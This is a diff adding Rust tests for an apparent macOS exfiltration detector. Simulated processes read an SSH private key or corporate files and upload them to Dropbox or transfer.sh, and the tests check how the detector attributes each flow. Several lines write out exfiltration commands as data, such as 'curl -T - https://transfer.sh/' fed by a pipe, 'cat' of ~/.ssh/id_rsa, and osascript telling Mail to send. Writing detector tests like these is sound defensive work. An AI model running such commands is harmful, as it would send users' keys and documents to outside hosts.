@@ -1,0 +1,245 @@
+//! Whose flow it is, where the process that sends is not the one that read.
+
+use super::world::*;
+
+const KEY: &str = "/Users/alice/.ssh/id_rsa";
+const DROPBOX: &str = "content.dropboxapi.com";
+const NOTES: Program = vendor("/Applications/Acme.app/Contents/MacOS/Acme", "com.acme.notes", "ACME000000");
+const HELPER: Program = vendor(
+    "/Applications/Acme.app/Contents/Frameworks/Acme Helper.app/Contents/MacOS/Acme Helper",
+    "com.acme.notes.helper",
+    "ACME000000",
+);
+const OTHER: Program = vendor("/Applications/Other.app/Contents/MacOS/Other", "com.other.app", "OTHER00000");
+const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
+const WEBKIT: Program = apple(
+    "/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.Networking.xpc/Contents/MacOS/com.apple.WebKit.Networking",
+    "com.apple.WebKit.Networking",
+);
+
+fn attribution(told: &Told) -> &'static str {
+    told.alert().attribution.as_str()
+}
+
+/// An Electron app reads in its main process and sends through its network service, which was there before.
+#[test]
+fn app_reads_and_its_network_service_sends() {
+    let mut w = World::new();
+    let main = w.launch(0.0, NOTES, &["Acme"]);
+    let network = w.spawn_for(0.5, &main, &main, HELPER, &["Acme Helper", "--type=utility"]);
+    w.open(1.0, &main, KEY);
+    w.upload(2.0, &network, DROPBOX, 30_000);
+    let told = w.tell();
+    assert_eq!(attribution(&told), "responsible_process");
+    assert_eq!(told.alert().confidence.as_str(), "medium");
+}
+
+/// A renderer reads, the main process sends; and one helper reads for another.
+#[test]
+fn helper_reads_and_the_app_sends() {
+    for through_main in [true, false] {
+        let mut w = World::new();
+        let main = w.launch(0.0, NOTES, &["Acme"]);
+        let renderer = w.spawn_for(0.5, &main, &main, HELPER, &["Acme Helper", "--type=renderer"]);
+        let network = w.spawn_for(0.6, &main, &main, HELPER, &["Acme Helper", "--type=utility"]);
+        w.open(1.0, &renderer, KEY);
+        w.upload(2.0, if through_main { &main } else { &network }, DROPBOX, 30_000);
+        assert_eq!(attribution(&w.tell()), "responsible_process");
+    }
+}
+
+/// The network process of WebKit is started by launchd, and the app answers for it.
+#[test]
+fn webkit_sends_for_an_app() {
+    let mut w = World::new();
+    let main = w.launch(0.0, NOTES, &["Acme"]);
+    let other = w.launch(0.1, OTHER, &["Other"]);
+    let network = w.launch_for(0.5, &main, WEBKIT, &["com.apple.WebKit.Networking"]);
+    let unrelated = w.launch_for(0.6, &other, WEBKIT, &["com.apple.WebKit.Networking"]);
+    w.open(1.0, &main, KEY);
+    w.upload(1.5, &unrelated, DROPBOX, 30_000);
+    w.tell().none();
+    w.upload(3.0, &network, DROPBOX, 30_000);
+    assert_eq!(attribution(&w.tell()), "responsible_process");
+}
+
+/// A daemon of the system sends for an app, and the capture says for which.
+#[test]
+fn daemon_sends_on_behalf_of_an_app() {
+    let mut w = World::new();
+    let main = w.launch(0.0, NOTES, &["Acme"]);
+    let daemon = w.launch(0.5, apple("/usr/libexec/nsurlsessiond", "com.apple.nsurlsessiond"), &["n"]);
+    w.open(1.0, &main, KEY);
+    let mut conn = w.connect_for(2.0, &daemon, &main, DROPBOX);
+    let end = w.send(2.1, &mut conn, 30_000);
+    w.close(end + 0.1, &mut conn);
+    assert_eq!(attribution(&w.tell()), "effective_process");
+}
+
+/// The owner itself comes before anybody on whose behalf it may send.
+#[test]
+fn the_exact_owner_comes_first() {
+    let mut w = World::new();
+    let main = w.launch(0.0, NOTES, &["Acme"]);
+    let x = w.launch(0.5, adhoc("/private/tmp/x", "x"), &["x"]);
+    w.open(1.0, &main, KEY);
+    w.open(1.1, &x, KEY);
+    let mut conn = w.connect_for(2.0, &x, &main, DROPBOX);
+    let end = w.send(2.1, &mut conn, 30_000);
+    w.close(end + 0.1, &mut conn);
+    let told = w.tell();
+    assert_eq!(attribution(&told), "process");
+    assert_eq!(told.alert().uploader.info.program.path.to_string(), "/private/tmp/x");
+}
+
+/// Two commands of one terminal have nothing to do with each other, whoever is responsible for both.
+#[test]
+fn one_terminal_is_no_app() {
+    let mut w = World::new();
+    let terminal = w.launch(
+        0.0,
+        apple("/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", "com.apple.Terminal"),
+        &["Terminal"],
+    );
+    let shell = w.spawn_for(0.1, &terminal, &terminal, ZSH, &["-zsh"]);
+    let python = adhoc("/opt/homebrew/Cellar/python/Python.app/Contents/MacOS/Python", "python3");
+    let a = w.spawn_for(1.0, &shell, &terminal, python, &["python3", "a.py"]);
+    let b = w.spawn_for(1.1, &shell, &terminal, python, &["python3", "b.py"]);
+    w.open(2.0, &a, KEY);
+    w.upload(3.0, &b, DROPBOX, 30_000);
+    w.tell().none();
+}
+
+/// An editor reads a secret; a command in its terminal, started before, uploads something of its own.
+#[test]
+fn a_command_in_an_editor_is_not_the_editor() {
+    let mut w = World::new();
+    let editor = w.launch(0.0, NOTES, &["Acme"]);
+    let shell = w.spawn_for(0.1, &editor, &editor, ZSH, &["-zsh"]);
+    let curl = w.spawn_for(0.5, &shell, &editor, apple("/usr/bin/curl", "com.apple.curl"), &["curl"]);
+    w.open(1.0, &editor, "/Users/alice/src/.env");
+    w.upload(2.0, &curl, DROPBOX, 30_000);
+    w.tell().none();
+}
+
+/// A child that was there before the read gets the data through its standard input: nobody else holds the other end.
+#[test]
+fn m06_through_a_pipe_made_before_the_read() {
+    let mut w = World::new();
+    let python = w.launch(0.0, adhoc("/opt/homebrew/bin/python3.12", "python3"), &["python3", "x.py"]);
+    let child = w.fork(1.0, &python);
+    let curl = apple("/usr/bin/curl", "com.apple.curl");
+    let env = &["HOME=/Users/alice"];
+    let curl =
+        w.exec_in(1.01, &child, curl, &["curl", "-T", "-", "https://transfer.sh/"], "null", &[(0, 77)], env);
+    w.open(2.0, &python, KEY);
+    w.upload(3.0, &curl, "transfer.sh", 5_000);
+    let told = w.tell();
+    assert!(told.alert().hops.iter().any(|hop| hop.kind.as_str() == "pipe"));
+}
+
+/// `$(cat key)`: what the child wrote came back to whoever started it.
+#[test]
+fn m07_command_substitution() {
+    let mut w = World::new();
+    let python = w.launch(0.0, adhoc("/opt/homebrew/bin/python3.12", "python3"), &["python3", "x.py"]);
+    let child = w.fork(1.0, &python);
+    let cat = apple("/bin/cat", "com.apple.cat");
+    let env = &["HOME=/Users/alice"];
+    let cat = w.exec_in(1.01, &child, cat, &["cat", KEY], "null", &[(1, 78)], env);
+    w.open(1.1, &cat, KEY);
+    w.exit(1.2, &cat);
+    w.upload(2.0, &python, "transfer.sh", 5_000);
+    w.tell().alert();
+}
+
+/// A pipeline whose reader came before its writer does not make the shell a reader.
+#[test]
+fn m07_twin_the_shell_between_is_no_reader() {
+    let mut w = World::new();
+    let shell = w.launch(0.0, ZSH, &["-zsh"]);
+    let env = &["HOME=/Users/alice"];
+    let (a, b) = (w.fork(1.0, &shell), w.fork(1.001, &shell));
+    let cat = apple("/bin/cat", "com.apple.cat");
+    let cat = w.exec_in(1.01, &a, cat, &["cat", KEY], "null", &[(1, 11)], env);
+    w.exec_in(1.02, &b, apple("/usr/bin/wc", "com.apple.wc"), &["wc"], "null", &[(0, 11)], env);
+    w.open(1.1, &cat, KEY);
+    w.exit(1.2, &cat);
+    let curl = w.spawn(5.0, &shell, apple("/usr/bin/curl", "com.apple.curl"), &["curl"]);
+    w.upload(5.5, &curl, "transfer.sh", 5_000);
+    w.tell().none();
+}
+
+const SAFARI: Program = apple("/Applications/Safari.app/Contents/MacOS/Safari", "com.apple.Safari");
+const OSASCRIPT: Program = apple("/usr/bin/osascript", "com.apple.osascript");
+
+/// A script makes the Finder copy; what was copied is uploaded by the script's own child.
+#[test]
+fn m25_finder_copies_for_a_script() {
+    let mut w = World::new();
+    let tell = "tell application \"Finder\" to duplicate file \"plan.docx\" to folder \"tmp\"";
+    let script = w.launch(0.0, OSASCRIPT, &["osascript", "-e", tell]);
+    let helper = apple(
+        "/System/Library/PrivateFrameworks/DesktopServicesPriv.framework/Versions/A/Resources/DesktopServicesHelper",
+        "com.apple.DesktopServicesHelper",
+    );
+    let helper = w.launch_for(1.0, &script, helper, &["DesktopServicesHelper"]);
+    w.open(1.1, &helper, "/Users/alice/Documents/corp/plan.docx");
+    w.write(1.2, &helper, "/private/tmp/plan.docx");
+    let curl =
+        w.spawn(2.0, &script, apple("/usr/bin/curl", "com.apple.curl"), &["curl", "-T", "/tmp/plan.docx"]);
+    w.open(2.1, &curl, "/private/tmp/plan.docx");
+    w.upload(2.2, &curl, "transfer.sh", 30_000);
+    let told = w.tell();
+    assert!(
+        told.alert()
+            .reads
+            .iter()
+            .any(|read| { read.process.info.program.path.to_string().ends_with("DesktopServicesHelper") })
+    );
+}
+
+/// A script makes the browser read and send.
+#[test]
+fn m26_browser_is_told_to_upload() {
+    for by_text in [true, false] {
+        let mut w = World::new();
+        let text = if by_text { "tell application \"Safari\" to activate" } else { "run" };
+        let script = w.launch(0.0, OSASCRIPT, &["osascript", "-e", text]);
+        let safari = if by_text {
+            w.launch(0.1, SAFARI, &["Safari"])
+        } else {
+            w.launch_for(0.1, &script, SAFARI, &["Safari"])
+        };
+        w.open(1.0, &safari, "/Users/alice/Documents/corp/plan.docx");
+        w.upload(2.0, &safari, DROPBOX, 30_000);
+        let told = w.tell();
+        assert!(told.low().reasons.iter().any(|reason| reason.code.as_str() == "apple-events"));
+    }
+}
+
+/// The script itself has read the key; the app that it speaks to sends.
+#[test]
+fn m26_script_reads_and_the_app_sends() {
+    let mut w = World::new();
+    let mail = apple("/System/Applications/Mail.app/Contents/MacOS/Mail", "com.apple.mail");
+    let mail = w.launch(0.0, mail, &["Mail"]);
+    let script =
+        w.launch(0.5, OSASCRIPT, &["osascript", "-e", "tell application id \"com.apple.mail\" to send"]);
+    w.open(1.0, &script, KEY);
+    w.upload(2.0, &mail, DROPBOX, 30_000);
+    let told = w.tell();
+    assert!(told.low().reasons.iter().any(|reason| reason.code.as_str() == "apple-events"));
+    assert_eq!(told.low().attribution.as_str(), "responsible_process");
+}
+
+/// The twin of M26: a script speaks to another app.
+#[test]
+fn m26_twin_another_app_was_told() {
+    let mut w = World::new();
+    w.launch(0.0, OSASCRIPT, &["osascript", "-e", "tell application \"Music\" to play"]);
+    let safari = w.launch(0.1, SAFARI, &["Safari"]);
+    w.open(1.0, &safari, "/Users/alice/Documents/corp/plan.docx");
+    w.upload(2.0, &safari, DROPBOX, 30_000);
+    w.tell().alert();
+}
